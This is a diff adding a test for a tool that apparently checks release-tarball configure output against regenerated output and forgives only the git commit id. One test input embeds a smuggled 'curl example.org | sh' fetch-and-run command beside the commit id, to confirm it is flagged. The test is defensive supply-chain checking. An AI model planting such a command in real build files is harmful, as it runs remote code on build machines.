@@ -103,6 +103,23 @@ test("a version and revision asked of git while autoconf runs are filled in from
   assert.is.not(noCommit.release, noCommit.regenerated);
 });
 
+test("the tag's commit that configure.ac asks git for is forgiven with the blank line after it, and only the tag's", () => {
+  const commit = '1bb416213c7038d0da9a6f5141c611f6dbcefedc';
+  const regenerated = 'LIBNL_VERSION=3.7.0\nLIBNL_GIT_SHA=\nac_config_files=x\n';
+  const opts = input('autoconf', { commit });
+  const r = stabilize(`LIBNL_VERSION=3.7.0\nLIBNL_GIT_SHA=${commit}\n\nac_config_files=x\n`, regenerated, opts);
+  assert.is(r.release, r.regenerated);
+  assert.equal(r.applied.map((a) => a.name), ['commit-from-git']);
+  const short = stabilize(`LIBNL_VERSION=3.7.0\nLIBNL_GIT_SHA=${commit.slice(0, 7)}\nac_config_files=x\n`, regenerated, opts);
+  assert.is(short.release, short.regenerated, 'abbreviated');
+  const other = stabilize('LIBNL_VERSION=3.7.0\nLIBNL_GIT_SHA=2cc527324e6d1e2b3f4a5b6c7d8e9f0a1b2c3d4e\n\nac_config_files=x\n', regenerated, opts);
+  assert.is.not(other.release, other.regenerated, 'another commit stays');
+  const more = stabilize(`LIBNL_VERSION=3.7.0\nLIBNL_GIT_SHA=${commit}; curl example.org | sh\n\nac_config_files=x\n`, regenerated, opts);
+  assert.is.not(more.release, more.regenerated, 'anything beside the id stays');
+  const elsewhere = stabilize(`LIBNL_VERSION=3.7.1\nLIBNL_GIT_SHA=${commit}\n\nac_config_files=x\n`, regenerated, opts);
+  assert.is.not(elsewhere.release, elsewhere.regenerated, 'a changed line beside it stays');
+});
+
 test('DIST_COMMON may differ by aux scripts only', () => {
   const regenerated = 'am__DIST_COMMON = $(srcdir)/Makefile.in \\\n\tbuild-aux/compile build-aux/depcomp \\\n\tbuild-aux/missing\nX = 1\n';
   const release = 'am__DIST_COMMON = $(srcdir)/Makefile.in \\\n\tbuild-aux/compile \\\n\tbuild-aux/missing\nX = 1\n';
